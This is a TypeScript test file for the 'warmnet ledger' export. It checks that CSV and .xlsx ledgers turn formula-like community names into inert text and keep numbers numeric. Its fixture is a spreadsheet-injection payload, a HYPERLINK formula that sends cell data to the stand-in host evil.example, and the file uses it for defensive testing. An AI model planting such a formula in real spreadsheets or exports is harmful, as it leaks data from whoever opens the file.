/**
 * Formula injection in the ledgers: a community whose name is a spreadsheet
 * formula is exported by `warmnet ledger` from a real GeoPackage; the CSV
 * holds it as text (leading quote, quoted cell) and the .xlsx as a string
 * cell, read back with exceljs. Numbers, negative ones included, stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { main } from '../../cli';
import { ProjectStore } from '../store/index';
import { fixtureProject } from '../../../core/carto/fixture';
import { csvCell, writeCsv } from './ledgerFiles';
import type { Ledger } from '../../../core/plan/ledger';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此")';
let dir: string;
let gpkg: string;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'warmnet-ledger-inject-'));
  gpkg = join(dir, 'town.gpkg');
  const data = fixtureProject();
  data.layers.communities[0].properties.name = EVIL;
  ProjectStore.createFromData(gpkg, data).close();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('ledger cells that look like formulas', () => {
  it('csvCell escapes text starting with = + - @ tab CR, and leaves numbers alone', () => {
    expect(csvCell('=1+2')).toBe(`"'=1+2"`);
    expect(csvCell('+86 138')).toBe(`"'+86 138"`);
    expect(csvCell('-2 户')).toBe(`"'-2 户"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('=A1&"x"')).toBe(`"'=A1&""x"""`);
    expect(csvCell('幸福小区')).toBe('幸福小区');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(-3.25)).toBe('-3.25');
    expect(csvCell(-3.256, '0.00')).toBe('-3.26');
    expect(csvCell(0)).toBe('0');
  });

  it('writeCsv keeps a negative number a number and a formula-like text text', async () => {
    const ledger = {
      sheets: [{ name: 'p', title: 'p', blocks: [{ columns: [{ key: 'a', header: '名称' }, { key: 'b', header: '差额', numFmt: '0.0' }], rows: [{ a: '-负荷', b: -12.34 }] }] }, { name: 'c', title: '=t', blocks: [] }],
    } as unknown as Ledger;
    const [first, second] = await writeCsv(ledger, join(dir, 'unit.csv'));
    expect(readFileSync(first, 'utf8').slice(1).split('\r\n')[1]).toBe(`"'-负荷",-12.3`);
    expect(readFileSync(second, 'utf8').slice(1).split('\r\n')[0]).toBe(`"'=t"`);
  });

  it('warmnet ledger --out x.csv writes the community named by a formula as inert text', async () => {
    const csv = join(dir, 'ledger.csv');
    expect(await main(['ledger', gpkg, '--out', csv])).toBe(0);
    const text = readFileSync(join(dir, 'ledger_小区清单.csv'), 'utf8');
    const quoted = `'${EVIL}`.replace(/"/g, '""');
    expect(text).toContain(`"${quoted}`);
    // no line and no cell starts with the bare formula
    for (const line of text.split('\r\n')) {
      expect(line.startsWith('=')).toBe(false);
      expect(line).not.toMatch(/,=HYPERLINK/);
    }
  });

  it('warmnet ledger --out x.xlsx writes it as a string cell, never a formula', async () => {
    const xlsx = join(dir, 'ledger.xlsx');
    expect(await main(['ledger', gpkg, '--out', xlsx])).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsx);
    const hits: ExcelJS.Cell[] = [];
    const formulas: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas.push(`${ws.name}!${cell.address}`);
          if (typeof cell.value === 'string' && cell.value.includes('HYPERLINK')) hits.push(cell);
        }),
      ),
    );
    expect(hits.length).toBeGreaterThan(0);
    for (const c of hits) {
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(String(c.value)).toContain(EVIL);
    }
    expect(formulas).toEqual([]);
  });
});
